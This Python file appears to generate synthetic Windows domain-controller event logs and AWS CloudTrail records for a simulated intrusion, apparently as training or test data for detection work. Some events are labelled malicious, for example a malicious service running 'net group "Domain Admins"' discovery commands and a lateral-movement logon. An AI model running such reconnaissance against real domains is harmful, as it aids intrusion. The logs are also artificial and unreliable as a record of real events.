    ev4688(T("10:06:31.904"), "DC01$", "0x3e7", 0x2c48, sys32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c net group \"Domain Admins\" /domain", 0x2b44, UPD_DC,
           label=M, note="Discovery from the malicious service")
    ev4688(T("10:06:31.922"), "DC01$", "0x3e7", 0x2c54, sys32 + "net.exe", "net  group \"Domain Admins\" /domain", 0x2c48, sys32 + "cmd.exe",
           label=M, note="Discovery: Domain Admins membership")
    ev4688(T("10:06:31.940"), "DC01$", "0x3e7", 0x2c60, sys32 + "net1.exe", "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain", 0x2c54, sys32 + "net.exe",
           label=M, note="Discovery: net1.exe")
    ev4634(T("10:14:02.331"), "alice", NETBIOS, lat, label=M, note="Lateral-movement logon session ends")


# Messages (explanatory boilerplate paragraphs of the real messages omitted)
LT_NAMES = {"%%1833": "Impersonation", "%%1842": "Yes", "%%1843": "No",
            "%%1936": "TokenElevationTypeDefault (1)",
            "%%1937": "TokenElevationTypeFull (2)", "%%2313": "Unknown user name or bad password."}


def _n(v):
    return LT_NAMES.get(v, v)


def dc_message(channel, eid, f):
    if eid == 4624:
        return ("An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\n"
                "Logon Information:\r\n\tLogon Type:\t\t%s\r\n\tRestricted Admin Mode:\t%s\r\n\tVirtual Account:\t\t%s\r\n\tElevated Token:\t\t%s\r\n\r\n"
                "New Logon:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\tLogon GUID:\t\t%s\r\n\r\n"
                "Process Information:\r\n\tProcess ID:\t\t%s\r\n\tProcess Name:\t\t%s\r\n\r\n"
                "Network Information:\r\n\tWorkstation Name:\t%s\r\n\tSource Network Address:\t%s\r\n\tSource Port:\t\t%s\r\n\r\n"
                "Detailed Authentication Information:\r\n\tLogon Process:\t\t%s\r\n\tAuthentication Package:\t%s\r\n\tTransited Services:\t%s\r\n\tPackage Name (NTLM only):\t%s\r\n\tKey Length:\t\t%s") % (
            f["SubjectUserSid"], f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"],
            f["LogonType"], _n(f["RestrictedAdminMode"]), _n(f["VirtualAccount"]), _n(f["ElevatedToken"]),
            f["TargetUserSid"], f["TargetUserName"], f["TargetDomainName"], f["TargetLogonId"], f["LogonGuid"],
            f["ProcessId"], f["ProcessName"], f["WorkstationName"], f["IpAddress"], f["IpPort"],
            f["LogonProcessName"], f["AuthenticationPackageName"], f["TransmittedServices"],
            f["LmPackageName"], f["KeyLength"])
    if eid == 4625:
        return ("An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\n"
                "Logon Type:\t\t\t%s\r\n\r\nAccount For Which Logon Failed:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\r\n"
                "Failure Information:\r\n\tFailure Reason:\t\t%s\r\n\tStatus:\t\t\t%s\r\n\tSub Status:\t\t%s\r\n\r\n"
                "Process Information:\r\n\tCaller Process ID:\t%s\r\n\tCaller Process Name:\t%s\r\n\r\n"
                "Network Information:\r\n\tWorkstation Name:\t%s\r\n\tSource Network Address:\t%s\r\n\tSource Port:\t\t%s\r\n\r\n"
                "Detailed Authentication Information:\r\n\tLogon Process:\t\t%s\r\n\tAuthentication Package:\t%s\r\n\tTransited Services:\t%s\r\n\tPackage Name (NTLM only):\t%s\r\n\tKey Length:\t\t%s") % (
            f["SubjectUserSid"], f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"],
            f["LogonType"], f["TargetUserSid"], f["TargetUserName"], f["TargetDomainName"],
            _n(f["FailureReason"]), f["Status"], f["SubStatus"], f["ProcessId"], f["ProcessName"],
            f["WorkstationName"], f["IpAddress"], f["IpPort"], f["LogonProcessName"],
            f["AuthenticationPackageName"], f["TransmittedServices"], f["LmPackageName"], f["KeyLength"])
    if eid == 4634:
        return ("An account was logged off.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\nLogon Type:\t\t\t%s") % (
            f["TargetUserSid"], f["TargetUserName"], f["TargetDomainName"], f["TargetLogonId"], f["LogonType"])
    if eid == 4647:
        return ("User initiated logoff:\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s") % (
            f["TargetUserSid"], f["TargetUserName"], f["TargetDomainName"], f["TargetLogonId"])
    if eid == 4672:
        return ("Special privileges assigned to new logon.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\nPrivileges:\t\t%s") % (
            f["SubjectUserSid"], f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"], f["PrivilegeList"])
    if eid == 4688:
        return ("A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\n"
                "Target Subject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\n"
                "Process Information:\r\n\tNew Process ID:\t\t%s\r\n\tNew Process Name:\t%s\r\n\tToken Elevation Type:\t%s\r\n\tMandatory Label:\t\t%s\r\n\tCreator Process ID:\t%s\r\n\tCreator Process Name:\t%s\r\n\tProcess Command Line:\t%s") % (
            f["SubjectUserSid"], f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"],
            f["TargetUserSid"], f["TargetUserName"], f["TargetDomainName"], f["TargetLogonId"],
            f["NewProcessId"], f["NewProcessName"], _n(f["TokenElevationType"]),
            "Mandatory Label\\System Mandatory Level" if f["MandatoryLabel"] == "S-1-16-16384" else "Mandatory Label\\High Mandatory Level",
            f["ProcessId"], f["ParentProcessName"], f["CommandLine"])
    if eid == 4697:
        return ("A service was installed in the system.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\n"
                "Service Information:\r\n\tService Name:\t\t%s\r\n\tService File Name:\t%s\r\n\tService Type:\t\t%s\r\n\tService Start Type:\t%s\r\n\tService Account:\t\t%s") % (
            f["SubjectUserSid"], f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"],
            f["ServiceName"], f["ServiceFileName"], f["ServiceType"], f["ServiceStartType"], f["ServiceAccount"])
    if eid == 4768:
        return ("A Kerberos authentication ticket (TGT) was requested.\r\n\r\nAccount Information:\r\n\tAccount Name:\t\t%s\r\n\tSupplied Realm Name:\t%s\r\n\tUser ID:\t\t\t%s\r\n\r\n"
                "Service Information:\r\n\tService Name:\t\t%s\r\n\tService ID:\t\t%s\r\n\r\nNetwork Information:\r\n\tClient Address:\t\t%s\r\n\tClient Port:\t\t%s\r\n\r\n"
                "Additional Information:\r\n\tTicket Options:\t\t%s\r\n\tResult Code:\t\t%s\r\n\tTicket Encryption Type:\t%s\r\n\tPre-Authentication Type:\t%s") % (
            f["TargetUserName"], f["TargetDomainName"], f["TargetSid"], f["ServiceName"], f["ServiceSid"],
            f["IpAddress"], f["IpPort"], f["TicketOptions"], f["Status"], f["TicketEncryptionType"], f["PreAuthType"])
    if eid == 4769:
        return ("A Kerberos service ticket was requested.\r\n\r\nAccount Information:\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon GUID:\t\t%s\r\n\r\n"
                "Service Information:\r\n\tService Name:\t\t%s\r\n\tService ID:\t\t%s\r\n\r\nNetwork Information:\r\n\tClient Address:\t\t%s\r\n\tClient Port:\t\t%s\r\n\r\n"
                "Additional Information:\r\n\tTicket Options:\t\t%s\r\n\tTicket Encryption Type:\t%s\r\n\tFailure Code:\t\t%s\r\n\tTransited Services:\t%s") % (
            f["TargetUserName"], f["TargetDomainName"], f["LogonGuid"], f["ServiceName"], f["ServiceSid"],
            f["IpAddress"], f["IpPort"], f["TicketOptions"], f["TicketEncryptionType"], f["Status"], f["TransmittedServices"])
    if eid == 4771:
        return ("Kerberos pre-authentication failed.\r\n\r\nAccount Information:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\r\nService Information:\r\n\tService Name:\t\t%s\r\n\r\n"
                "Network Information:\r\n\tClient Address:\t\t%s\r\n\tClient Port:\t\t%s\r\n\r\nAdditional Information:\r\n\tTicket Options:\t\t%s\r\n\tFailure Code:\t\t%s\r\n\tPre-Authentication Type:\t%s") % (
            f["TargetSid"], f["TargetUserName"], f["ServiceName"], f["IpAddress"], f["IpPort"],
            f["TicketOptions"], f["Status"], f["PreAuthType"])
    if eid == 4776:
        return ("The computer attempted to validate the credentials for an account.\r\n\r\nAuthentication Package:\t%s\r\nLogon Account:\t%s\r\nSource Workstation:\t%s\r\nError Code:\t%s") % (
            f["PackageName"], f["TargetUserName"], f["Workstation"], f["Status"])
    if eid == 5140:
        return ("A network share object was accessed.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t%s\r\n\r\n"
                "Network Information:\t\r\n\tObject Type:\t\t%s\r\n\tSource Address:\t\t%s\r\n\tSource Port:\t\t%s\r\n\t\r\nShare Information:\r\n\tShare Name:\t\t%s\r\n\tShare Path:\t\t%s\r\n\r\n"
                "Access Request Information:\r\n\tAccess Mask:\t\t%s\r\n\tAccesses:\t\tReadData (or ListDirectory)") % (
            f["SubjectUserSid"], f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"],
            f["ObjectType"], f["IpAddress"], f["IpPort"], f["ShareName"], f["ShareLocalPath"], f["AccessMask"])
    if eid == 7045:
        return ("A service was installed in the system.\r\n\r\nService Name:  %s\r\nService File Name:  %s\r\nService Type:  %s\r\nService Start Type:  %s\r\nService Account:  %s") % (
            f["ServiceName"], f["ImagePath"], f["ServiceType"], f["StartType"], f["AccountName"])
    if eid == 7036:
        return "The %s service entered the %s state." % (f["param1"], f["param2"])
    if eid == 1502:
        return "The Group Policy settings for the computer were processed successfully. There were no changes detected since the last successful processing of Group Policy."
    if eid == 16384:
        return "Successfully scheduled Software Protection service for re-start at %s. Reason: %s." % (f["param1"], f["param2"])
    if eid == 1531:
        return "The User Profile Service has started successfully."
    raise ValueError(eid)


SOURCES = {  # (channel, eid) -> SourceName, ProviderGuid, task, category, keywords, version
    "System": {
        7036: ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}", 0, "None", "0x8080000000000000", 0),
        7045: ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}", 0, "None", "0x8080000000000000", 0),
        1502: ("Microsoft-Windows-GroupPolicy", "{AEA1B4FA-97D1-45F2-A64C-4D69FFFD92C9}", 0, "None", "0x8000000000000000", 0),
    },
    "Application": {
        16384: ("Microsoft-Windows-Security-SPP", "{E23B33B0-C8C9-472C-A5F9-F2BDFEA0F156}", 0, "None", "0x80000000000000", 0),
        1531: ("Microsoft-Windows-User Profiles Service", "{89B1E9F0-5AFF-44A6-9B44-0A07A7CE5845}", 0, "None", "0x8000000000000000", 0),
    },
}


def write_dc01():
    events = sorted(DC_EVENTS, key=lambda e: (e[0], e[1]))
    recnum = {"Security": 1284301, "System": 21877, "Application": 9412}
    exec_pid = {"Security": 652, "System": 640, "Application": 0}
    lines = []
    timeline = []
    for (t, _, channel, eid, fields, label, note) in events:
        if channel == "Security":
            ver, task, cat = SEC_META[eid]
            src = "Microsoft-Windows-Security-Auditing"
            guid = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
            failure = eid in (4625, 4771) or (eid == 4776 and fields["Status"] != "0x0")
            kw = "0x8010000000000000" if failure else "0x8020000000000000"
            etype = "AUDIT_FAILURE" if failure else "AUDIT_SUCCESS"
            tid = R.choice([700, 716, 4412, 4412, 5236])
        else:
            src, guid, task, cat, kw, ver = SOURCES[channel][eid]
            etype = "INFO"
            tid = R.choice([1120, 2816, 3004])
        pid = exec_pid[channel] if channel != "Application" else 0
        rec = recnum[channel]
        recnum[channel] += 1
        obj = {
            "@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000),
            "TimeCreated": utc(t),
            "Hostname": DC_HOST,
            "Channel": channel,
            "SourceName": src,
            "ProviderGuid": guid,
            "EventID": eid,
            "Version": ver,
            "Task": task,
            "Category": cat,
            "Keywords": kw,
            "EventType": etype,
            "RecordNumber": rec,
            "ExecutionProcessID": pid,
            "ThreadID": tid,
            "Message": dc_message(channel, eid, fields),
        }
        obj.update(fields)
        lines.append(json.dumps(obj, ensure_ascii=False, separators=(",", ":")))
        if label:
            timeline.append((t, "DC01", "dc01-security.jsonl", "%s %d, RecordNumber %d" % (channel, eid, rec), label, note, key_fields_dc(eid, fields)))
    with open(os.path.join(OUT, "dc01-security.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines) + "\n")
    return len(lines), timeline


def key_fields_dc(eid, f):
    if eid == 4769:
        return "TargetUserName=%s; ServiceName=%s; TicketEncryptionType=%s; TicketOptions=%s; IpAddress=%s" % (
            f["TargetUserName"], f["ServiceName"], f["TicketEncryptionType"], f["TicketOptions"], f["IpAddress"])
    if eid in (4624, 4625):
        return "TargetUserName=%s; LogonType=%s; AuthenticationPackageName=%s; IpAddress=%s; WorkstationName=%s%s" % (
            f["TargetUserName"], f["LogonType"], f["AuthenticationPackageName"], f["IpAddress"], f["WorkstationName"],
            "; TargetLogonId=%s" % f["TargetLogonId"] if eid == 4624 else "; SubStatus=%s" % f["SubStatus"])
    if eid == 4776:
        return "TargetUserName=%s; Workstation=%s; Status=%s" % (f["TargetUserName"], f["Workstation"], f["Status"])
    if eid == 4672:
        return "SubjectUserName=%s; SubjectLogonId=%s" % (f["SubjectUserName"], f["SubjectLogonId"])
    if eid == 4634:
        return "TargetUserName=%s; TargetLogonId=%s" % (f["TargetUserName"], f["TargetLogonId"])
    if eid == 5140:
        return "SubjectUserName=%s; ShareName=%s; IpAddress=%s" % (f["SubjectUserName"], f["ShareName"], f["IpAddress"])
    if eid == 4697:
        return "ServiceName=%s; ServiceFileName=%s; SubjectUserName=%s" % (f["ServiceName"], f["ServiceFileName"], f["SubjectUserName"])
    if eid == 7045:
        return "ServiceName=%s; ImagePath=%s; AccountName=%s" % (f["ServiceName"], f["ImagePath"], f["AccountName"])
    if eid == 7036:
        return "param1=%s; param2=%s" % (f["param1"], f["param2"])
    if eid == 4688:
        return "NewProcessName=%s; ParentProcessName=%s; CommandLine=%s" % (f["NewProcessName"], f["ParentProcessName"], f["CommandLine"])
    return ""


# ===========================================================================
# AWS CloudTrail
# ===========================================================================
ACCOUNT = "111122223333"
REGION = "us-east-1"
CT = []  # (t, seq, record, label, note)

B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"


def key_id(prefix):
    return prefix + "".join(R.choice(B32) for _ in range(16))


def principal_id(prefix):
    return prefix + "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(17))


class IamUser(object):
    def __init__(self, name):
        self.name = name
        self.pid = principal_id("AIDA")
        self.arn = "arn:aws:iam::%s:user/%s" % (ACCOUNT, name)
        self.key = key_id("AKIA")

    def identity(self, console_key=None, mfa=None, created=None):
        ident = {"type": "IAMUser", "principalId": self.pid, "arn": self.arn,
                 "accountId": ACCOUNT}
        if console_key:
            ident["accessKeyId"] = console_key
            ident["userName"] = self.name
            ident["sessionContext"] = {
                "sessionIssuer": {}, "webIdFederationData": {},
                "attributes": {"creationDate": created, "mfaAuthenticated": "true" if mfa else "false"}}
        else:
            ident["accessKeyId"] = self.key
            ident["userName"] = self.name
        return ident


class RoleSession(object):
    def __init__(self, role, session, created, mfa=False):
        self.role = role
        self.role_pid = ROLE_IDS[role]
        self.session = session
        self.key = key_id("ASIA")
        self.created = created
        self.mfa = mfa

    def identity(self):
        return {
            "type": "AssumedRole",
            "principalId": "%s:%s" % (self.role_pid, self.session),
            "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCOUNT, self.role, self.session),
            "accountId": ACCOUNT,
            "accessKeyId": self.key,
            "sessionContext": {
                "sessionIssuer": {"type": "Role", "principalId": self.role_pid,
                                  "arn": "arn:aws:iam::%s:role/%s" % (ACCOUNT, self.role),
                                  "accountId": ACCOUNT, "userName": self.role},
                "webIdFederationData": {},
                "attributes": {"creationDate": self.created, "mfaAuthenticated": "true" if self.mfa else "false"}},
        }


ROLE_IDS = {}


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


UA_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"
UA_ATTACKER_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"


def ua_cli(os_part, command, extra=""):
    return ("aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/%s md/arch#x86_64 lang/python#3.11.8 "
            "md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe%s md/prompt#off md/command#%s") % (os_part, extra, command)


UA_CI = ("Boto3/1.34.60 md/Botocore#1.34.60 ua/2.0 os/linux#6.5.0-1016-azure md/arch#x86_64 "
         "lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.60")


def tls(host, v13=True):
    return {"tlsVersion": "TLSv1.3" if v13 else "TLSv1.2",
            "cipherSuite": "TLS_AES_128_GCM_SHA256" if v13 else "ECDHE-RSA-AES128-GCM-SHA256",
            "clientProvidedHostHeader": host}


def ct_add(t, rec, label=None, note=None):
    _seq[0] += 1
    CT.append((t, _seq[0], rec, label, note))


def ct_call(t, ident, source, name, ip, ua, req=None, resp=None, read_only=True,
            add=None, resources=None, host=None, label=None, note=None,
            error=None, data_event=False, region=REGION):
    rec = {
        "eventVersion": "1.09" if not data_event else "1.10",
        "userIdentity": ident,
        "eventTime": iso(t),
        "eventSource": source,
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": ip,
        "userAgent": ua,
    }
    if error:
        rec["errorCode"], rec["errorMessage"] = error
    rec["requestParameters"] = req
    rec["responseElements"] = resp
    if add is not None:
        rec["additionalEventData"] = add
    if source == "s3.amazonaws.com":
        rec["requestID"] = "".join(R.choice("0123456789ABCDEF") for _ in range(16))
    else:
        rec["requestID"] = rguid()
    rec["eventID"] = rguid()
    rec["readOnly"] = read_only
    if resources is not None:
        rec["resources"] = resources
    rec["eventType"] = "AwsApiCall"
    rec["managementEvent"] = not data_event
    rec["recipientAccountId"] = ACCOUNT
    rec["eventCategory"] = "Data" if data_event else "Management"
    if ua == "AWS Internal" or ident.get("type") == "AWSService":
        if ident.get("sessionContext") and ua == "AWS Internal":
            rec["sessionCredentialFromConsole"] = "true"
    elif host:
        rec["tlsDetails"] = tls(host)
    ct_add(t, rec, label, note)
    return rec


def s3_add(out_bytes):
    return {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
            "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
            "x-amz-id-2": base64.b64encode(bytes(R.getrandbits(8) for _ in range(36))).decode(),
            "bytesTransferredOut": out_bytes}


def console_login(t, user, ip, ua, mfa, ident=None, label=None, note=None,
                  login_to="https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true"):
    add = {"LoginTo": login_to,
           "MobileVersion": "No"}
    if mfa:
        add["MFAIdentifier"] = "arn:aws:iam::%s:mfa/%s-phone" % (ACCOUNT, user.name)
    add["MFAUsed"] = "Yes" if mfa else "No"
    rec = {
        "eventVersion": "1.09",
        "userIdentity": ident or {"type": "IAMUser", "principalId": user.pid, "arn": user.arn,
                                  "accountId": ACCOUNT, "userName": user.name},
        "eventTime": iso(t),
        "eventSource": "signin.amazonaws.com",
        "eventName": "ConsoleLogin",
        "awsRegion": REGION,
        "sourceIPAddress": ip,
        "userAgent": ua,
        "requestParameters": None,
        "responseElements": {"ConsoleLogin": "Success"},
        "additionalEventData": add,
        "eventID": rguid(),
        "readOnly": False,
        "eventType": "AwsConsoleSignIn",
        "managementEvent": True,
        "recipientAccountId": ACCOUNT,
        "eventCategory": "Management",
        "tlsDetails": tls("signin.aws.amazon.com"),
    }
    ct_add(t, rec, label, note)
    return key_id("ASIA")


def fake_token():
    raw = bytes(R.getrandbits(8) for _ in range(150))
    return "IQoJb3JpZ2luX2VjE" + base64.b64encode(raw).decode()


def assume_role(t, ident, ip, ua, role, session, host="sts.amazonaws.com", label=None, note=None):
    sess = RoleSession(role, session, iso(t))
    exp = t + timedelta(hours=1)
    ct_call(t, ident, "sts.amazonaws.com", "AssumeRole", ip, ua,
            req={"roleArn": "arn:aws:iam::%s:role/%s" % (ACCOUNT, role), "roleSessionName": session},
            resp={"credentials": {"accessKeyId": sess.key, "sessionToken": fake_token(),
                                  "expiration": exp.strftime("%b %d, %Y, %I:%M:%S %p").replace(" 0", " ")},
                  "assumedRoleUser": {"assumedRoleId": "%s:%s" % (sess.role_pid, session),
                                      "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCOUNT, role, session)}},
            resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role",
                        "ARN": "arn:aws:iam::%s:role/%s" % (ACCOUNT, role)}],
            host=host, label=label, note=note)
    return sess


def s3_obj_resources(bucket, key):
    res = [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::%s/%s" % (bucket, key)}]
    res.append({"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::%s" % bucket})
    return res


def build_cloudtrail():
    for role in ["OrganizationAccountAccessRole", "ci-deploy", "AWSServiceRoleForConfig", "lambda-report-exporter"]:
        ROLE_IDS[role] = principal_id("AROA")
    alice, bob, carol, dave, ci = (IamUser(n) for n in ["alice", "bob", "carol", "dave", "ci-runner"])

    def svc_ident(svc):
        return {"type": "AWSService", "invokedBy": svc}

    # ---- AWS service background ---------------------------------------------
    for h in range(8, 18, 2):
        t = rand_time("%02d:00:00" % h, "%02d:59:00" % h)
        ct_call(t, svc_ident("cloudtrail.amazonaws.com"), "kms.amazonaws.com", "GenerateDataKey",
                "cloudtrail.amazonaws.com", "cloudtrail.amazonaws.com",
                req={"keySpec": "AES_256", "encryptionContext": {
                    "aws:cloudtrail:arn": "arn:aws:cloudtrail:us-east-1:%s:trail/org-trail" % ACCOUNT,
                    "aws:s3:arn": "arn:aws:s3:::corp-org-cloudtrail-logs/AWSLogs/%s/CloudTrail/us-east-1/2026/03/14/" % ACCOUNT}},
                resources=[{"accountId": ACCOUNT, "type": "AWS::KMS::Key",
                            "ARN": "arn:aws:kms:us-east-1:%s:key/%s" % (ACCOUNT, "6f1c2f8e-2d0b-4c53-9a55-0f6e1b7d4a21")}])
    for tt in ["07:30:11", "13:30:09"]:
        t = T(tt)
        ct_call(t, svc_ident("config.amazonaws.com"), "sts.amazonaws.com", "AssumeRole",
                "config.amazonaws.com", "config.amazonaws.com",
                req={"roleArn": "arn:aws:iam::%s:role/aws-service-role/config.amazonaws.com/AWSServiceRoleForConfig" % ACCOUNT,
                     "roleSessionName": "AWSConfig-Describe"},
                resp={"credentials": {"accessKeyId": key_id("ASIA"), "sessionToken": fake_token(),
                                      "expiration": (t + timedelta(hours=1)).strftime("%b %d, %Y, %I:%M:%S %p").replace(" 0", " ")}},
                resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role",
                            "ARN": "arn:aws:iam::%s:role/aws-service-role/config.amazonaws.com/AWSServiceRoleForConfig" % ACCOUNT}])
    # nightly-ish report exporter Lambda (assumed by lambda service) writes a report
    for tt in ["07:00:04", "17:00:03"]:
        t = T(tt)
        lam = RoleSession("lambda-report-exporter", "report-exporter", iso(t))
        ct_call(t, svc_ident("lambda.amazonaws.com"), "sts.amazonaws.com", "AssumeRole",
                "lambda.amazonaws.com", "lambda.amazonaws.com",
                req={"roleArn": "arn:aws:iam::%s:role/lambda-report-exporter" % ACCOUNT,
                     "roleSessionName": "report-exporter"},
                resp={"credentials": {"accessKeyId": lam.key, "sessionToken": fake_token(),
                                      "expiration": (t + timedelta(hours=12)).strftime("%b %d, %Y, %I:%M:%S %p").replace(" 0", " ")}},
                resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role",
                            "ARN": "arn:aws:iam::%s:role/lambda-report-exporter" % ACCOUNT}])
        key = "daily/2026-03-14-%s.csv" % ("am" if t.hour < 12 else "pm")
        ct_call(ms(t, 2140), lam.identity(), "s3.amazonaws.com", "PutObject", "192.0.2.240",
                "aws-sdk-nodejs/3.535.0 linux/v20.11.1 exec-env/AWS_Lambda_nodejs20.x",
                req={"bucketName": "corp-finance-reports", "Host": "corp-finance-reports.s3.us-east-1.amazonaws.com", "key": "reports/" + key},
                resp={"x-amz-server-side-encryption": "aws:kms"}, read_only=False,
                add=s3_add(0), resources=s3_obj_resources("corp-finance-reports", "reports/" + key),
                host="corp-finance-reports.s3.us-east-1.amazonaws.com", data_event=True)

    # ---- CI pipeline: ci-runner assumes ci-deploy from its usual IP ---------------
    for h in [8, 11, 14, 16]:
        t = rand_time("%02d:05:00" % h, "%02d:25:00" % h)
        sname = "gha-deploy-%d" % R.randrange(8000000000, 8999999999)
        sess = assume_role(t, ci.identity(), CI_IP, UA_CI, "ci-deploy", sname)
        ct_call(ms(t, 1400), sess.identity(), "ecr.amazonaws.com", "GetAuthorizationToken", CI_IP, UA_CI,
                req={}, resp=None, read_only=True, host="api.ecr.us-east-1.amazonaws.com")
        art = "builds/web-%s.tar.gz" % hexstr(7).lower()
        ct_call(ms(t, 41800), sess.identity(), "s3.amazonaws.com", "PutObject", CI_IP, UA_CI,
                req={"bucketName": "corp-artifacts", "Host": "corp-artifacts.s3.us-east-1.amazonaws.com", "key": art},
                resp={"x-amz-server-side-encryption": "AES256"}, read_only=False,
                add=s3_add(0), resources=s3_obj_resources("corp-artifacts", art),
                host="corp-artifacts.s3.us-east-1.amazonaws.com", data_event=True)
        ct_call(ms(t, 44950), sess.identity(), "ecs.amazonaws.com", "UpdateService", CI_IP, UA_CI,
                req={"cluster": "prod", "service": "web", "taskDefinition": "web:%d" % (412 + h), "forceNewDeployment": False},
                resp={"service": {"serviceName": "web", "clusterArn": "arn:aws:ecs:us-east-1:%s:cluster/prod" % ACCOUNT,
                                  "status": "ACTIVE", "desiredCount": 3}},
                read_only=False, host="ecs.us-east-1.amazonaws.com")

    # ---- people -------------------------------------------------------------------
    t = T("08:05:31")
    ck = console_login(t, alice, OFFICE_IP, UA_BROWSER, True)
    aid = alice.identity(console_key=ck, mfa=True, created=iso(t))
    ct_call(T("08:06:02"), aid, "ec2.amazonaws.com", "DescribeInstances", OFFICE_IP, "AWS Internal",
            req={"maxResults": 1000, "instancesSet": {}, "filterSet": {}}, resp=None)
    ct_call(T("08:07:15"), aid, "s3.amazonaws.com", "ListBuckets", OFFICE_IP, "AWS Internal",
            req={"Host": "s3.amazonaws.com"}, resp=None, add=s3_add(1288))
    ct_call(T("10:31:47"), aid, "monitoring.amazonaws.com", "DescribeAlarms", OFFICE_IP, "AWS Internal",
            req={"maxRecords": 100}, resp=None)
    ct_call(T("09:02:40"), alice.identity(), "sts.amazonaws.com", "GetCallerIdentity", OFFICE_IP,
            ua_cli("windows#10", "sts.get-caller-identity"), req=None, resp=None, host="sts.amazonaws.com")
    ct_call(T("14:12:18"), alice.identity(), "ec2.amazonaws.com", "DescribeInstances", OFFICE_IP,
            ua_cli("windows#10", "ec2.describe-instances"), req={"instancesSet": {}, "filterSet": {}}, resp=None,
            host="ec2.us-east-1.amazonaws.com")
    ct_call(T("14:13:03"), alice.identity(), "s3.amazonaws.com", "ListBuckets", OFFICE_IP,
            ua_cli("windows#10", "s3.ls"), req={"Host": "s3.us-east-1.amazonaws.com"}, resp=None,
            add=s3_add(1288), host="s3.us-east-1.amazonaws.com")

    t = T("08:41:09")
    ck = console_login(t, bob, OFFICE_IP, UA_BROWSER, True)
    bid = bob.identity(console_key=ck, mfa=True, created=iso(t))
    ct_call(T("08:43:26"), bid, "ec2.amazonaws.com", "DescribeSecurityGroups", OFFICE_IP, "AWS Internal",
            req={"securityGroupSet": {}, "securityGroupIdSet": {}, "maxResults": 1000}, resp=None)
    ct_call(T("08:44:02"), bid, "ec2.amazonaws.com", "DescribeVpcs", OFFICE_IP, "AWS Internal",
            req={"vpcSet": {}, "filterSet": {}}, resp=None)

    t = T("08:52:47")
    ck = console_login(t, dave, OFFICE_IP, UA_BROWSER, True)
    did = dave.identity(console_key=ck, mfa=True, created=iso(t))
    ct_call(T("08:53:30"), did, "s3.amazonaws.com", "ListObjects", OFFICE_IP, "AWS Internal",
            req={"list-type": "2", "bucketName": "corp-finance-reports", "encoding-type": "url",
                 "max-keys": "300", "prefix": "2026/Q1/", "delimiter": "/", "Host": "s3.us-east-1.amazonaws.com"},
